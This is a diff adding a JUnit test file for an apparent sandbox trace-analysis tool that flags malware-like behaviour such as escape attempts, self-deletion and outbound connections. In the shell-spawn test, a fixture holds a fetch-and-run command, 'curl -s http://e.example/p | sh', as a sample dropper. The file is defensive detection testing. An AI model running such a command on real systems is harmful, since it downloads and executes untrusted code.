@@ -1,0 +1,120 @@
+package dev.sandtrace.report;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.io.ByteArrayInputStream;
+import java.nio.charset.StandardCharsets;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/** Indicator rules on hand-written trace lines: the cases a fixture cannot easily produce. */
+class RulesTest {
+    private static final String HEADER = "{\"event_type\":\"header\",\"seq\":0,\"time_ns\":0,\"program\":\"/opt/x\",\"cwd\":\"/w\","
+            + "\"layers\":[]}\n";
+
+    private static Report report(String lines) throws Exception {
+        ReportBuilder b = new ReportBuilder(null);
+        try (var r = new TraceReader("test", new ByteArrayInputStream((HEADER + lines).getBytes(StandardCharsets.UTF_8)))) {
+            for (TraceEvent e; (e = r.next()) != null; ) b.accept(e);
+        }
+        return b.build();
+    }
+
+    private static String sys(long seq, int pid, String name, String decoded, boolean ok, String errno, String extra) {
+        return "{\"event_type\":\"syscall\",\"seq\":" + seq + ",\"time_ns\":" + seq + ",\"pid\":" + pid + ",\"tid\":" + pid
+                + ",\"syscall\":\"" + name + "\",\"syscall_nr\":1,\"arch\":\"x86_64\",\"args\":{\"raw\":[0,0,0,0,0,0],\"decoded\":"
+                + decoded + "},\"return_value\":" + (ok ? 0 : -1) + ",\"success\":" + ok + ",\"errno\":"
+                + (errno == null ? "null" : "\"" + errno + "\"") + ",\"text\":\"" + name + "(...)\"" + extra + "}\n";
+    }
+
+    private static String exec(long seq, int pid, String path, String argv) {
+        return "{\"event_type\":\"process\",\"seq\":" + seq + ",\"time_ns\":" + seq + ",\"kind\":\"exec\",\"pid\":" + pid
+                + ",\"tid\":" + pid + ",\"path\":\"" + path + "\",\"argv\":" + argv + "}\n";
+    }
+
+    private static String spawn(long seq, int parent, int child) {
+        return "{\"event_type\":\"process\",\"seq\":" + seq + ",\"time_ns\":" + seq + ",\"kind\":\"spawned\",\"pid\":" + parent
+                + ",\"tid\":" + parent + ",\"parent_pid\":" + parent + ",\"child_pid\":" + child + ",\"via\":\"fork\"}\n";
+    }
+
+    private static List<String> found(Report r) {
+        return ReportAssertions.summary(r);
+    }
+
+    @Test
+    void ldSoCacheAndPasswdAreNotCredentials() throws Exception {
+        Report r = report(sys(1, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/etc/ld.so.cache\",\"flags\":\"O_RDONLY\"}", true, null, "")
+                + sys(2, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/etc/passwd\",\"flags\":\"O_RDONLY\"}", true, null, "")
+                + sys(3, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"/home/u/.ssh/id_ed25519.pub\",\"flags\":\"O_RDONLY\"}", true, null, ""));
+        assertThat(found(r)).isEmpty();
+    }
+
+    @Test
+    void deniedMountAndI386AreEscapeAttempts() throws Exception {
+        Report r = report(sys(1, 10, "mount", "{\"source\":\"none\",\"target\":\"/mnt\"}", false, "EPERM", "")
+                + "{\"event_type\":\"violation\",\"seq\":2,\"time_ns\":2,\"pid\":10,\"tid\":10,\"syscall\":\"mount\",\"layer\":\"seccomp\","
+                + "\"errno\":\"EPERM\",\"target\":null,\"reason\":\"denied\",\"syscall_seq\":1}\n"
+                + sys(3, 10, "open", "{\"pathname\":\"/etc/hostname\",\"flags\":\"O_RDONLY\"}", true, null, "").replace("\"x86_64\"", "\"i386\""));
+        Report.Indicator i = ReportAssertions.indicator(r, "escape-attempt");
+        assertThat(i.severity()).isEqualTo(Severity.HIGH);
+        assertThat(i.evidence()).extracting(Evidence::seq).containsExactlyInAnyOrder(1L, 2L, 3L);
+        assertThat(r.denials()).singleElement().satisfies(d -> assertThat(d.layer()).isEqualTo("seccomp"));
+    }
+
+    @Test
+    void sleepingThroughTheTimeoutIsAntiAnalysis() throws Exception {
+        Report r = report("{\"event_type\":\"timeout\",\"seq\":1,\"time_ns\":5,\"limit_seconds\":1.0,\"killed\":1}\n"
+                + sys(2, 10, "clock_nanosleep", "{}", false, null, ",\"finished\":false")
+                + "{\"event_type\":\"process\",\"seq\":3,\"time_ns\":6,\"kind\":\"signaled\",\"pid\":10,\"tid\":10,\"signal\":\"SIGKILL\"}\n");
+        assertThat(ReportAssertions.indicator(r, "anti-analysis").severity()).isEqualTo(Severity.MEDIUM);
+        assertThat(r.processes()).singleElement().satisfies(p -> assertThat(p.end()).isEqualTo("killed by SIGKILL"));
+    }
+
+    @Test
+    void loopbackIsInfoAndTheInternetMedium() throws Exception {
+        String lo = "{\"sockfd\":3,\"addr\":{\"sa_family\":\"AF_INET6\",\"sin6_port\":53,\"sin6_addr\":\"::1\"},\"addrlen\":28}";
+        Report local = report(sys(1, 10, "connect", lo, true, null, ""));
+        assertThat(found(local)).containsExactly("info outbound-network: connect to loopback [::1]:53");
+        String dns = "{\"sockfd\":3,\"buf\":\"x\",\"len\":1,\"flags\":0,\"dest_addr\":{\"sa_family\":\"AF_INET\",\"sin_port\":53,"
+                + "\"sin_addr\":\"8.8.8.8\"},\"addrlen\":16}";
+        Report remote = report(sys(1, 10, "sendto", dns, true, null, ""));
+        assertThat(found(remote)).containsExactly("medium outbound-network: DNS query to 8.8.8.8:53");
+        assertThat(remote.network()).singleElement().satisfies(n -> {
+            assertThat(n.family()).isEqualTo("AF_INET");
+            assertThat(n.address()).isEqualTo("8.8.8.8");
+            assertThat(n.outcome()).isEqualTo("ok");
+        });
+    }
+
+    @Test
+    void shellsByWhoStartedThem() throws Exception {
+        // the traced program is a shell script: its own shell is the target, its children routine
+        Report script = report(exec(1, 10, "/bin/sh", "[\"sh\",\"build.sh\"]") + spawn(2, 10, 11)
+                + exec(3, 11, "/usr/bin/python3.11", "[\"python3\",\"gen.py\"]"));
+        assertThat(found(script)).containsExactly("info shell-spawn: /bin/sh started the interpreter /usr/bin/python3.11: python3 gen.py");
+        // a binary that opens a shell which fetches something
+        Report dropper = report(exec(1, 10, "/opt/x", "[\"x\"]") + spawn(2, 10, 11)
+                + exec(3, 11, "/bin/bash", "[\"bash\",\"-c\",\"curl -s http://e.example/p | sh\"]"));
+        assertThat(ReportAssertions.indicator(dropper, "shell-spawn").severity()).isEqualTo(Severity.HIGH);
+        Report plain = report(exec(1, 10, "/opt/x", "[\"x\"]") + spawn(2, 10, 11)
+                + exec(3, 11, "/bin/sh", "[\"sh\",\"-c\",\"uname -a\"]"));
+        assertThat(ReportAssertions.indicator(plain, "shell-spawn").severity()).isEqualTo(Severity.MEDIUM);
+    }
+
+    @Test
+    void aScriptDeletingItselfIsSelfDeletion() throws Exception {
+        Report r = report(exec(1, 10, "/bin/sh", "[\"sh\",\"run.sh\"]") + spawn(2, 10, 11)
+                + exec(3, 11, "/bin/rm", "[\"rm\",\"-f\",\"run.sh\"]")
+                + sys(4, 11, "unlinkat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"run.sh\",\"flags\":0}", true, null, ""));
+        assertThat(found(r)).contains("high self-deletion: deleted the program of its ancestor pid 10: /w/run.sh");
+    }
+
+    @Test
+    void aLinkerWritingWhatIsRunIsInfo() throws Exception {
+        Report r = report(exec(1, 10, "/usr/bin/ld", "[\"ld\"]")
+                + sys(2, 10, "openat", "{\"dirfd\":\"AT_FDCWD\",\"pathname\":\"a.out\",\"flags\":\"O_RDWR|O_CREAT|O_TRUNC\",\"mode\":\"0666\"}", true, null, "")
+                + spawn(3, 10, 11)
+                + sys(4, 11, "execve", "{\"pathname\":\"./a.out\",\"argv\":[\"./a.out\"]}", true, null, ""));
+        assertThat(found(r)).containsExactly("info download-and-execute: /w/a.out built by ld and then run");
+    }
+}
